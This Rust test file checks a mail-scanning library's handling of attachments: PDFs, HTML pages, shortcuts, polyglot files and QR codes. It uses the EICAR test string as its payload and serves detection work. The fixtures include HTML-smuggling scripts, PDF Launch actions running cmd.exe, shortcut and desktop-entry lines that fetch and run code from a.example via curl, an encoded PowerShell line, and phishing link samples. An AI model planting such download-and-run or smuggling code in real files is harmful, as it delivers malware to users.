//! Documents, pages, shortcuts and pictures: what is hidden in them comes out, and what they do is told. Those that real
//! tools make (qpdf, reportlab, qrencode, ImageMagick) are made where the tools are installed.

mod make;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

use gatepost_mail::{DefectKind, FeatureKind, Limits, Message};
use gatepost_unpack::read;
use make::{Zip, base64_mail, deflate};

const EICAR: &[u8] = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const EICAR_BASE64: &str =
    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=";

fn attached(name: &str, file: &[u8]) -> Message {
    read(base64_mail(name, file).into(), &Limits::default())
}

/// Whether some part but the attachment itself begins with it.
fn eicar(message: &Message) -> bool {
    message.parts.iter().skip(1).any(|part| part.body.starts_with(EICAR))
}

fn features(message: &Message) -> Vec<FeatureKind> {
    let mut kinds: Vec<_> = message.features.iter().map(|feature| feature.kind).collect();
    kinds.sort();
    kinds.dedup();
    kinds
}

fn links(message: &Message) -> Vec<&str> {
    message.links.iter().map(|link| link.url.as_str()).collect()
}

/// A PDF of these objects, numbered from 1, with a table that is right.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (place, object) in objects.iter().enumerate() {
        table += &format!("{:010} 00000 n \n", out.len());
        out.extend(format!("{} 0 obj\n", place + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let start = out.len();
    out.extend(table.bytes());
    out.extend(
        format!("trailer\n<</Size {} /Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n", objects.len() + 1).bytes(),
    );
    out
}

fn stream(dict: &str, data: &[u8]) -> Vec<u8> {
    [format!("<<{dict} /Length {}>>\nstream\n", data.len()).as_bytes(), data, b"\nendstream"].concat()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    [b"\x78\x9c", &deflate(data)[..], &[0; 4]].concat()
}

/// A PDF with one embedded file whose stream is that.
fn with_file(stream: Vec<u8>) -> Vec<u8> {
    pdf(&[
        b"<</Type /Catalog /Pages 2 0 R /Names <</EmbeddedFiles <</Names [(a) 3 0 R]>>>>>>".to_vec(),
        b"<</Type /Pages /Kids [] /Count 0>>".to_vec(),
        b"<</Type /Filespec /F (a.bin) /UF (eicar.com) /EF <</F 4 0 R>>>>".to_vec(),
        stream,
    ])
}

#[test]
fn files_in_pdfs_through_each_filter() {
    let hex: String = EICAR.iter().map(|byte| format!("{byte:02X}")).collect();
    let run = [&[67], EICAR, &[128]].concat();
    let rows: Vec<u8> = EICAR.chunks(17).flat_map(|row| [&[0], row].concat()).collect();
    for (what, dict, data) in [
        ("plain", "/Type /EmbeddedFile", EICAR.to_vec()),
        ("flate", "/Filter /FlateDecode", zlib(EICAR)),
        ("flate without header", "/Filter /FlateDecode", deflate(EICAR)),
        ("abbreviated", "/Filter [/Fl]", zlib(EICAR)),
        ("hidden name", "/Filter /F#6cate#44ecode", zlib(EICAR)),
        ("hex", "/Filter /ASCIIHexDecode", format!("{hex}>").into_bytes()),
        ("run length", "/Filter [/RunLengthDecode]", run),
        (
            "two",
            "/Filter [/ASCIIHexDecode /FlateDecode]",
            zlib(EICAR).iter().map(|byte| format!("{byte:02x}")).collect::<String>().into_bytes(),
        ),
        ("predictor", "/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 17>>", zlib(&rows)),
    ] {
        let message = attached("a.pdf", &with_file(stream(dict, &data)));
        let found = message.parts.iter().find(|part| part.body == EICAR);
        assert_eq!(
            found.map(|part| part.names.as_slice()),
            Some(&["eicar.com".to_owned(), "a.bin".to_owned()][..]),
            "{what}: {message:?}"
        );
        assert_eq!(features(&message), [FeatureKind::EmbeddedFile], "{what}");
    }
}

/// Files that follow no rule about the whole: readers mend them, so they are read.
#[test]
fn broken_pdfs() {
    let whole = with_file(stream("/Type /EmbeddedFile /Filter /FlateDecode", &zlib(EICAR)));
    let at = memchr::memmem::find(&whole, b"xref").expect("a table");
    let text = |from: &str, to: &str| {
        let at = memchr::memmem::find(&whole, from.as_bytes()).expect("it is there");
        [&whole[..at], to.as_bytes(), &whole[at + from.len()..]].concat()
    };
    let length = format!("/Length {}", zlib(EICAR).len());
    for (what, file) in [
        ("no table", whole[..at].to_vec()),
        ("junk before", [&[b'x'; 1000][..], &whole].concat()),
        ("a wrong length", text(&length, "/Length 3")),
        ("a huge length", text(&length, "/Length 99999999999999999999")),
        ("no length", text(&length, "")),
        ("no reference to it", text("/EF <</F 4 0 R>>", "")),
        ("no endobj", text("\nendobj\n2 0 obj", "\n2 0 obj")),
        ("an open string", text("(a)", "(a")),
        ("defined twice", [&whole[..at], b"4 0 obj <</Length 2>> stream\nxx\nendstream endobj\n"].concat()),
        ("in an object stream", {
            let inner = b"3 0 <</Type /Filespec /F (eicar.com) /EF <</F 4 0 R>>>>";
            pdf(&[
                b"<</Type /Catalog>>".to_vec(),
                stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zlib(inner)),
                b"null".to_vec(),
                stream("/Filter /FlateDecode", &zlib(EICAR)),
            ])
        }),
    ] {
        assert!(eicar(&attached("a.pdf", &file)), "{what}");
    }
}

#[test]
fn what_pdfs_do() {
    use FeatureKind::*;
    for (action, kinds, link) in [
        ("/OpenAction <</S /JavaScript /JS (app.alert(1))>>", &[PdfJavaScript, PdfOpenAction][..], None),
        ("/OpenAction <</S /GoTo /D [2 0 R /Fit]>>", &[], None),
        ("/OpenAction [2 0 R /Fit]", &[], None),
        ("/OpenAction <</S /GoTo /Next <</S /Launch /F (cmd.exe)>>>>", &[PdfLaunch, PdfOpenAction], None),
        ("/AA <</O <</S /URI /URI (http://a.example/)>>>>", &[PdfOpenAction], Some("http://a.example/")),
        ("/A <</S /URI /URI (http://a.example/b?c)>>", &[], Some("http://a.example/b?c")),
        (
            "/A <</S /URI /URI <FEFF0068007400740070003A002F002F0061002E006500780061006D0070006C0065>>>",
            &[],
            Some("http://a.example"),
        ),
        ("/A <</S /SubmitForm /F <</FS /URL /F (https://a.example/f)>>>>", &[], Some("https://a.example/f")),
        ("/A <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>", &[PdfLaunch], None),
        (
            "/A <</S /GoToR /F (\\\\\\\\a.example\\\\share\\\\x.pdf)>>",
            &[PdfLaunch],
            Some("\\\\a.example\\share\\x.pdf"),
        ),
        ("/A <</S /GoToR /F (other.pdf)>>", &[], None),
        ("/A <</S /J#61vaScript /JS 2 0 R>>", &[PdfJavaScript], None),
        ("/AcroForm <</XFA [(template) 3 0 R]>>", &[PdfJavaScript], None),
    ] {
        let file = pdf(&[
            format!("<</Type /Catalog {action}>>").into_bytes(),
            stream("/Filter /FlateDecode", &zlib(b"app.alert('from a stream')")),
            stream("", b"<xdp><script contentType='application/x-javascript'>x</script></xdp>"),
        ]);
        let message = attached("a.pdf", &file);
        assert_eq!(features(&message), kinds, "{action}");
        assert_eq!(links(&message), link.into_iter().collect::<Vec<_>>(), "{action}");
    }
    let script =
        pdf(&[format!("<</OpenAction <</S /JavaScript /JS (var x = '{EICAR_BASE64}';)>>>>").into_bytes()]);
    let message = attached("a.pdf", &script);
    assert!(eicar(&message));
    let source = message.parts.iter().find(|part| part.name() == Some("JavaScript")).expect("the source");
    assert!(source.body.starts_with(b"var x = '"));
}

#[test]
fn pages_that_build_files() {
    let numbers = EICAR.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
    let percent: String = EICAR.iter().map(|byte| format!("%{byte:02x}")).collect();
    let offer = "var u=URL.createObjectURL(b);var a=document.createElement('a');a.href=u;a.download='invoice.zip';a.click();";
    let (head, tail) = EICAR_BASE64.split_at(33);
    for (what, page) in [
        ("atob", format!("<html><script>var b=new Blob([atob('{EICAR_BASE64}')]);{offer}</script>")),
        (
            "pieces",
            format!("<html><script>var p='{head}';p+='{tail}';var b=new Blob([atob(p)]);{offer}</script>"),
        ),
        ("bytes", format!("<html><script>var b=new Blob([new Uint8Array([{numbers}])]);{offer}</script>")),
        ("percent", format!("<html><script>var b=new Blob([unescape('{percent}')]);{offer}</script>")),
        (
            "old explorer",
            format!(
                "<html><script>var d=atob('{EICAR_BASE64}');navigator.msSaveOrOpenBlob(new Blob([d]),'invoice.zip')</script>"
            ),
        ),
        (
            "in an attribute",
            format!(
                "<html><div id=d data-x='{EICAR_BASE64}'></div><script>var b=new Blob([atob(d.dataset.x)]);{offer}</script>"
            ),
        ),
        (
            "in hidden text",
            format!(
                "<html><p hidden>{EICAR_BASE64}</p><script>var b=new Blob([atob(p.innerText)]);{offer}</script>"
            ),
        ),
        (
            "in a data block",
            format!(
                "<html><script type='text/plain'>{EICAR_BASE64}</script><script>var b=new Blob([atob(x)]);{offer}</script>"
            ),
        ),
        ("by a handler", format!("<html><body onload=\"var b=new Blob([atob('{EICAR_BASE64}')]);{offer}\">")),
        (
            "svg",
            format!(
                "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[var b=new Blob([atob('{EICAR_BASE64}')]);{offer}]]></script></svg>"
            ),
        ),
        (
            "svg, references",
            format!("<svg><script>var b=new Blob([atob(&quot;{EICAR_BASE64}&quot;)]);{offer}</script></svg>"),
        ),
        (
            "foreignObject",
            format!(
                "<svg><foreignObject><body onload=\"var b=new Blob([atob('{EICAR_BASE64}')]);{offer}\"/></foreignObject></svg>"
            ),
        ),
        ("capitals", format!("<HTML><SCRIPT>var b=new Blob([atob('{EICAR_BASE64}')]);{offer}</SCRIPT>")),
    ] {
        for (how, file) in [("", page.clone().into_bytes()), (" in UTF-16", wide(&page))] {
            let message = attached("page.html", &file);
            assert!(eicar(&message), "{what}{how}: {message:?}");
            assert!(
                features(&message).contains(&FeatureKind::HtmlSmuggling),
                "{what}{how}: {:?}",
                message.features
            );
            assert!(features(&message).contains(&FeatureKind::HtmlScript), "{what}{how}");
        }
    }
}

fn wide(text: &str) -> Vec<u8> {
    [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

#[test]
fn files_in_addresses() {
    for (page, smuggling) in [
        (format!("<a href='data:application/zip;base64,{EICAR_BASE64}'>x</a>"), false),
        (format!("<html><img src=\"data:image/png;base64,{EICAR_BASE64}\">"), false),
        (format!("<html><iframe src=\" da\nta:text/html;base64,{EICAR_BASE64}\"></iframe>"), false),
        (format!("<html><object data='data:,{}'></object>", String::from_utf8_lossy(EICAR).replace('%', "%25")), false),
        ("<a download=a.zip href='data:application/zip;base64,UEsDBAoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'>x</a>".to_owned(), true),
    ] {
        let message = attached("page.html", page.as_bytes());
        assert!(smuggling || eicar(&message), "{page}");
        assert_eq!(features(&message).contains(&FeatureKind::HtmlSmuggling), smuggling, "{page}");
    }
}

#[test]
fn what_pages_ask_and_say() {
    use FeatureKind::*;
    let body = |inside: &str| format!("<!DOCTYPE html><html><body><p>Hello</p>{inside}</body></html>");
    let tracked: String =
        (0..6).map(|n| format!("<a href='https://click.sender.net/{n}'>item {n}</a>")).collect();
    for (inside, kinds) in [
        ("<form action=http://a.example/><input type=text><INPUT TYPE=' Password '></form>", &[HtmlForm][..]),
        ("<form><input name=password type=text></form>", &[]),
        ("<a href='javascript:void(0)'>x</a>", &[]),
        ("<a href=' java\tscript:alert(1)'>x</a>", &[HtmlScript]),
        ("<a href='&#106;avascript:alert(1)'>x</a>", &[HtmlScript]),
        ("<img src=x onerror=alert(1)>", &[HtmlScript]),
        ("<script type='application/ld+json'>{\"a\": 1}</script>", &[]),
        ("<script>track()</script>", &[HtmlScript]),
        ("<a href='http://evil.net/x'>https://www.bank.com/login</a>", &[LinkMismatch]),
        ("<a href='http://evil.net/x'><b>www.bank.com</b></a>", &[LinkMismatch]),
        ("<a href='http://evil.net/x'>bank.com</a>", &[LinkMismatch]),
        ("<a href='http://192.0.2.1/x'>bank.com</a>", &[LinkMismatch]),
        ("<a href='http://bank.com@evil.net/x'>www.bank.com</a>", &[]),
        ("<a href='https://login.bank.com/x'>www.bank.com</a>", &[]),
        ("<a href='https://out.net/?u=https%3A%2F%2Fwww.bank.com'>www.bank.com</a>", &[]),
        ("<a href='http://evil.net/x'>Click here</a>", &[]),
        ("<a href='http://evil.net/x'>README.md</a>", &[]),
        ("<a href='mailto:a@evil.net'>bank.com</a>", &[]),
        (&format!("{tracked}<a href='https://click.sender.net/7'>www.bank.com</a>"), &[]),
    ] {
        let message = attached("page.html", body(inside).as_bytes());
        assert_eq!(features(&message), kinds, "{inside}: {:?}", message.features);
    }
    // What does not begin as a page is one by its name.
    let late = "Some words first.\n<script>track()</script>";
    assert_eq!(features(&attached("page.html", late.as_bytes())), [HtmlScript]);
    assert_eq!(features(&attached("page.txt", late.as_bytes())), []);
    let message = attached("page.html", body("<script>location='https://evil.net/a'</script>").as_bytes());
    assert_eq!(links(&message), ["https://evil.net/a"]);
}

/// A shortcut (MS-SHLLINK) with a path, arguments, and the block of an environment variable.
fn shortcut(path: &str, arguments: &str, behind: &[u8]) -> Vec<u8> {
    let mut out = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    // LinkInfo, arguments, icon, Unicode.
    out.extend((1u32 << 1 | 1 << 5 | 1 << 6 | 1 << 7).to_le_bytes());
    out.resize(0x4c, 0);
    let mut info = vec![0; 0x1c];
    info.extend(path.bytes().chain([0, 0]));
    let size = info.len() as u32;
    for (at, value) in [(0, size), (4, 0x1c), (8, 1), (16, 0x1c), (24, size - 1)] {
        info[at..at + 4].copy_from_slice(&value.to_le_bytes());
    }
    out.extend(info);
    for text in [arguments, r"\\icons.example\share\pdf.ico"] {
        out.extend((text.encode_utf16().count() as u16).to_le_bytes());
        out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    }
    out.extend([0; 4]);
    out.extend(behind);
    out
}

#[test]
fn shortcuts() {
    let cmd = r"C:\Windows\System32\cmd.exe";
    let word = r"C:\Program Files\Office\winword.exe";
    let arguments = "/c curl http://a.example/x -o %TEMP%\\y & %TEMP%\\y";
    for (path, arguments, command) in [(cmd, arguments, true), (cmd, "", false), (word, "report.docx", false)]
    {
        let message = attached("a.pdf.lnk", &shortcut(path, arguments, EICAR));
        assert!(eicar(&message), "{path}");
        assert_eq!(features(&message).contains(&FeatureKind::ShortcutCommand), command, "{path} {arguments}");
        assert_eq!(links(&message).contains(&"http://a.example/x"), command, "{path} {arguments}");
        assert!(links(&message).contains(&r"\\icons.example\share\pdf.ico"));
        let source = message.parts.iter().find(|part| part.name() == Some("command")).expect("the command");
        assert!(source.body.starts_with(path.as_bytes()), "{source:?}");
    }
    let encoded = format!("-nop -enc {EICAR_BASE64}");
    assert!(eicar(&attached("a.lnk", &shortcut(r"C:\x\powershell.exe", &encoded, b""))));
    let cut = &shortcut(cmd, arguments, b"")[..100];
    let message = attached("a.lnk", cut);
    assert!(message.defects.iter().any(|defect| defect.kind == DefectKind::TruncatedArchive));
    for (file, link, command) in [
        ("[InternetShortcut]\r\nURL=https://a.example/\r\n", "https://a.example/", false),
        ("[InternetShortcut]\r\nURL=file://a.example/x.exe\r\n", "file://a.example/x.exe", true),
        (
            "[{000214A0-0000-0000-C000-000000000046}]\r\n[InternetShortcut]\r\nURL=https://a.example/\r\n",
            "https://a.example/",
            false,
        ),
        (
            "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://a.example/ | sh'\n",
            "http://a.example/",
            true,
        ),
    ] {
        let message = attached("a.url", file.as_bytes());
        assert_eq!(links(&message), [link], "{file}");
        assert_eq!(features(&message).contains(&FeatureKind::ShortcutCommand), command, "{file}");
    }
}

#[test]
fn files_of_two_types() {
    let gif = b"GIF89a\x01\0\x01\0\0\0\0;".to_vec();
    let zip = Zip::with(&[("eicar.com", EICAR, 0)]).end();
    let jar = Zip::with(&[("META-INF/MANIFEST.MF", b"x", 0), ("eicar.com", EICAR, 0)]).end();
    let page = format!("<html><script>var x = '{EICAR_BASE64}'</script>");
    let document = with_file(stream("", EICAR));
    let mut program = [0; 0x80];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x40;
    program[0x40..0x44].copy_from_slice(b"PE\0\0");
    for (what, file, polyglot) in [
        ("gifar", [&gif[..], &jar].concat(), true),
        ("zip behind a picture", [&gif[..], &zip].concat(), true),
        ("zip behind a pdf", [&with_file(stream("", b"harmless")), &zip[..]].concat(), true),
        ("pdf behind a picture", [&gif[..], &document].concat(), true),
        ("page behind a picture", [&gif[..], page.as_bytes()].concat(), true),
        ("self-extracting", [&program[..], &zip].concat(), false),
        ("zip", zip.clone(), false),
        ("pdf with a zip in it", with_file(stream("", &zip)), false),
        ("zip with a pdf in it", Zip::with(&[("a.pdf", &document, 0)]).end(), false),
    ] {
        let message = attached("a.bin", &file);
        assert!(eicar(&message), "{what}");
        assert_eq!(
            features(&message).contains(&FeatureKind::Polyglot),
            polyglot,
            "{what}: {:?}",
            message.features
        );
        // A zip that lies in a PDF as it is comes out of both.
        let times = message.parts.iter().filter(|part| part.body == EICAR).count();
        assert_eq!(times, if what == "pdf with a zip in it" { 2 } else { 1 }, "{what}");
    }
    let rar = [&gif[..], b"Rar!\x1a\x07\x01\0 and so on"].concat();
    let message = attached("a.gif", &rar);
    assert!(features(&message).contains(&FeatureKind::Polyglot));
    assert!(message.parts.iter().any(|part| part.body.starts_with(b"Rar!")));
}

/// A folder of its own, gone in the end.
struct Folder(PathBuf);

impl Folder {
    fn new() -> Folder {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let name =
            format!("gatepost-documents-{}-{}", std::process::id(), NEXT.fetch_add(1, Ordering::Relaxed));
        let path = std::env::temp_dir().join(name);
        std::fs::create_dir_all(&path).expect("a folder");
        Folder(path)
    }

    /// Runs a program there; None, and a word about it, where it is not installed.
    fn run(&self, program: &str, arguments: &[&str]) -> Option<()> {
        match Command::new(program).args(arguments).current_dir(&self.0).output() {
            Ok(output) => {
                // qpdf exits with 3 for warnings.
                let fine = output.status.success() || output.status.code() == Some(3);
                assert!(fine, "{program} {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
                Some(())
            }
            Err(error) => {
                println!("skipped: {program}: {error}");
                None
            }
        }
    }

    fn write(&self, name: &str, content: &[u8]) {
        std::fs::write(self.0.join(name), content).expect("written");
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.0.join(name)).expect("the tool made it")
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _gone = std::fs::remove_dir_all(&self.0);
    }
}

/// qpdf writes them in each of its ways, encrypted ones included.
#[test]
fn pdfs_by_qpdf() {
    let folder = Folder::new();
    folder.write("eicar.com", EICAR);
    folder.write("in.pdf", &pdf(&[
        b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>".to_vec(),
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>".to_vec(),
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://a.example/q)>>>>]>>".to_vec(),
    ]));
    for (what, arguments, opens) in [
        ("plain", &["--object-streams=disable"][..], true),
        ("object streams", &["--object-streams=generate"], true),
        ("linearized", &["--linearize"], true),
        ("uncompressed", &["--stream-data=uncompress"], true),
        ("RC4, 40 bits", &["--allow-weak-crypto", "--encrypt", "", "owner", "40", "--"], true),
        (
            "RC4, 128 bits",
            &["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=n", "--"],
            true,
        ),
        (
            "AES, 128 bits",
            &["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=y", "--"],
            true,
        ),
        (
            "AES, 128 bits, plain metadata",
            &[
                "--allow-weak-crypto",
                "--encrypt",
                "",
                "owner",
                "128",
                "--use-aes=y",
                "--cleartext-metadata",
                "--",
            ],
            true,
        ),
        ("AES, 256 bits", &["--encrypt", "", "owner", "256", "--"], true),
        ("AES, 256 bits, older", &["--encrypt", "", "owner", "256", "--force-R5", "--"], true),
        (
            "AES, 256 bits, object streams",
            &["--object-streams=generate", "--encrypt", "", "owner", "256", "--"],
            true,
        ),
        ("with a password", &["--encrypt", "user", "owner", "256", "--"], false),
    ] {
        let attach: &[&str] = &["in.pdf", "--add-attachment", "eicar.com", "--", "out.pdf"];
        if folder.run("qpdf", &[attach, arguments].concat()).is_none() {
            return;
        }
        let message = attached("a.pdf", &folder.read("out.pdf"));
        assert_eq!(eicar(&message), opens, "{what}: {:?}", message.defects);
        let encrypted = message.defects.iter().any(|defect| defect.kind == DefectKind::Encrypted);
        assert_eq!(encrypted, !opens, "{what}");
        for kind in [FeatureKind::PdfJavaScript, FeatureKind::PdfOpenAction] {
            assert!(features(&message).contains(&kind), "{what}");
        }
        if opens {
            assert_eq!(links(&message), ["https://a.example/q"], "{what}");
            assert!(message.parts.iter().any(|part| part.body == b"app.alert(1)"[..]), "{what}");
            let file = message.parts.iter().find(|part| part.body == EICAR).expect("it opens");
            assert_eq!(file.name(), Some("eicar.com"), "{what}");
        }
    }
}

/// The password stands in the mail: that of the user, or the owner's.
#[test]
fn pdfs_whose_password_is_in_the_mail() {
    let folder = Folder::new();
    folder.write("eicar.com", EICAR);
    folder.write(
        "in.pdf",
        &pdf(&[
            b"<</Type /Catalog /Pages 2 0 R>>".to_vec(),
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>".to_vec(),
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>".to_vec(),
        ]),
    );
    let (long, end) = ("n".repeat(45), &["--"][..]);
    for (what, bits, options, user, owner) in [
        ("RC4, 40 bits", "40", end, "Zitrone7", "x"),
        ("RC4, 40 bits, owner", "40", end, "x", "Zitrone7"),
        ("RC4, 128 bits", "128", &["--use-aes=n", "--"], "Zitrone7", "x"),
        ("RC4, 128 bits, owner", "128", &["--use-aes=n", "--"], "x", "Zitrone7"),
        ("AES, 128 bits", "128", &["--use-aes=y", "--"], "Zitrone7", "x"),
        ("AES, 128 bits, owner", "128", &["--use-aes=y", "--cleartext-metadata", "--"], "x", "Zitrone7"),
        ("AES, 128 bits, not ASCII", "128", &["--use-aes=y", "--"], "Gr\u{fc}n7", "x"),
        ("AES, 128 bits, long", "128", &["--use-aes=y", "--"], long.as_str(), "x"),
        ("AES, 256 bits", "256", end, "Zitrone7", "x"),
        ("AES, 256 bits, owner", "256", end, "x", "Zitrone7"),
        ("AES, 256 bits, not ASCII", "256", end, "Gr\u{fc}n7", "x"),
        ("AES, 256 bits, older", "256", &["--force-R5", "--"], "Zitrone7", "x"),
        ("AES, 256 bits, older, owner", "256", &["--force-R5", "--"], "x", "Zitrone7"),
    ] {
        let made = ["in.pdf", "--add-attachment", "eicar.com", "--", "out.pdf", "--allow-weak-crypto"];
        let arguments = [&made[..], &["--encrypt", user, owner, bits], options].concat();
        if folder.run("qpdf", &arguments).is_none() {
            return;
        }
        let file = folder.read("out.pdf");
        let password = if user == "x" { owner } else { user };
        for (text, opens) in
            [(format!("The password is: {password}"), true), ("The password is: Zitrone".into(), false)]
        {
            let mail = String::from_utf8(base64_mail("a.pdf", &file)).expect("ASCII");
            let (head, part) = mail.split_at(mail.find("Content-Type:").expect("a part"));
            let mail = format!(
                "{head}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\
                 Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--x\r\n{part}\r\n--x--\r\n"
            );
            let message = read(mail.into(), &Limits::default());
            assert_eq!(eicar(&message), opens, "{what}: {:?}", message.defects);
            let encrypted = message.defects.iter().any(|defect| defect.kind == DefectKind::Encrypted);
            assert_eq!(encrypted, !opens, "{what}");
            assert_eq!(features(&message).contains(&FeatureKind::PasswordInMail), opens, "{what}");
        }
    }
}

/// reportlab writes ASCII85 and Flate, and links as people do.
#[test]
fn pdfs_by_reportlab() {
    const SCRIPT: &str = "from reportlab.pdfgen import canvas\n\
        c = canvas.Canvas('out.pdf', pageCompression=1)\n\
        c.drawString(100, 700, 'hello')\n\
        c.linkURL('https://a.example/paper', (0, 0, 9, 9))\n\
        c.save()\n";
    let folder = Folder::new();
    if !Path::new("/usr/lib/python3/dist-packages/reportlab").exists() {
        println!("skipped: reportlab is not installed");
        return;
    }
    if folder.run("/usr/bin/python3", &["-c", SCRIPT]).is_some() {
        let message = attached("a.pdf", &folder.read("out.pdf"));
        assert_eq!((links(&message), features(&message)), (vec!["https://a.example/paper"], Vec::new()));
        assert_eq!(message.defects, []);
    }
}

/// Codes by qrencode, in the formats and conditions in which ImageMagick puts them.
#[test]
fn codes_in_pictures() {
    let folder = Folder::new();
    let link = "https://a.example/login?user=somebody";
    if folder.run("qrencode", &["-o", "code.png", link]).is_none() {
        return;
    }
    for (what, name, arguments) in [
        ("as it is", "out.png", &[][..]),
        ("grey", "out.png", &["-colorspace", "Gray"]),
        ("large", "out.png", &["-scale", "600%"]),
        ("jpeg", "out.jpg", &["-scale", "300%", "-quality", "60"]),
        ("progressive jpeg", "out.jpg", &["-scale", "300%", "-interlace", "JPEG"]),
        ("gif", "out.gif", &[]),
        ("bmp", "out.bmp", &["-type", "TrueColor"]),
        ("bitmap of one bit", "out.bmp", &["-monochrome"]),
        ("light on dark", "out.png", &["-negate"]),
        ("coloured", "out.png", &["-fill", "navy", "-opaque", "black"]),
        ("transparent", "out.png", &["-transparent", "white"]),
        ("without margin", "out.png", &["-trim"]),
        ("turned", "out.png", &["-scale", "300%", "-rotate", "17"]),
        (
            "on a page",
            "out.png",
            &["-scale", "200%", "-background", "white", "-gravity", "center", "-extent", "1200x1700"],
        ),
        ("one pixel a module", "out.png", &["-filter", "point", "-resize", "33.334%"]),
    ] {
        let arguments = [&["code.png"], arguments, &[name]].concat();
        if folder.run("convert", &arguments).is_none() {
            return;
        }
        let message = attached(name, &folder.read(name));
        assert_eq!((links(&message), features(&message)), (vec![link], vec![FeatureKind::QrLink]), "{what}");
    }
    // In a page.
    let code = std::fs::read(folder.0.join("code.png")).expect("made");
    let mail = String::from_utf8(base64_mail("x", &code)).expect("text");
    let base64: String = mail.split("\r\n\r\n").nth(1).expect("a body").split_whitespace().collect();
    let page = format!("<html><img src='data:image/png;base64,{base64}'>");
    assert_eq!(links(&attached("a.html", page.as_bytes())), [link]);
}

/// Pictures as programs store them in PDFs.
#[test]
fn codes_in_pdfs() {
    const SCRIPT: &str = "from reportlab.pdfgen import canvas\n\
        import sys\n\
        c = canvas.Canvas('out.pdf', pageCompression=1)\n\
        c.drawImage(sys.argv[1], 100, 500, 200, 200)\n\
        c.save()\n";
    let folder = Folder::new();
    let link = "https://a.example/login?user=somebody";
    let reportlab = Path::new("/usr/lib/python3/dist-packages/reportlab").exists();
    if !reportlab || folder.run("qrencode", &["-o", "code.png", link]).is_none() {
        println!("skipped: reportlab or qrencode is not installed");
        return;
    }
    for (what, name, arguments) in [
        ("three colours", "out.png", &["-type", "TrueColor", "-define", "png:color-type=2"][..]),
        (
            "grey",
            "out.png",
            &["-colorspace", "Gray", "-define", "png:color-type=0", "-define", "png:bit-depth=8"],
        ),
        ("palette", "out.png", &["-type", "Palette", "-define", "png:color-type=3"]),
        ("jpeg", "out.jpg", &["-scale", "300%", "-quality", "80"]),
        ("gif", "out.gif", &[]),
    ] {
        if folder.run("convert", &[&["code.png"], arguments, &[name]].concat()).is_none() {
            return;
        }
        folder.run("/usr/bin/python3", &["-c", SCRIPT, name]);
        let message = attached("a.pdf", &folder.read("out.pdf"));
        assert_eq!((links(&message), features(&message)), (vec![link], vec![FeatureKind::QrLink]), "{what}");
    }
    // Samples of one bit and of a palette, as scanners and img2pdf write them.
    folder.run("convert", &["code.png", "-scale", "300%", "-monochrome", "-depth", "1", "out.pbm"]);
    let bitmap = folder.read("out.pbm");
    let mut words = bitmap.split_inclusive(|byte| byte.is_ascii_whitespace());
    let head: Vec<&[u8]> = words.by_ref().take(3).collect();
    let side = String::from_utf8_lossy(head[1]).trim().to_owned();
    let samples = &bitmap[head.concat().len()..];
    let inverse: Vec<u8> = samples.iter().map(|byte| !byte).collect();
    for (space, samples) in
        [("/DeviceGray", &inverse[..]), ("[/Indexed /DeviceRGB 1 <FFFFFF000000>]", samples)]
    {
        let dict = format!(
            "/Type /XObject /Subtype /Image /Width {side} /Height {side} /BitsPerComponent 1 /ColorSpace {space} /Filter /FlateDecode"
        );
        let message =
            attached("a.pdf", &pdf(&[b"<</Type /Catalog>>".to_vec(), stream(&dict, &zlib(samples))]));
        assert_eq!(links(&message), [link], "{space}");
    }
}
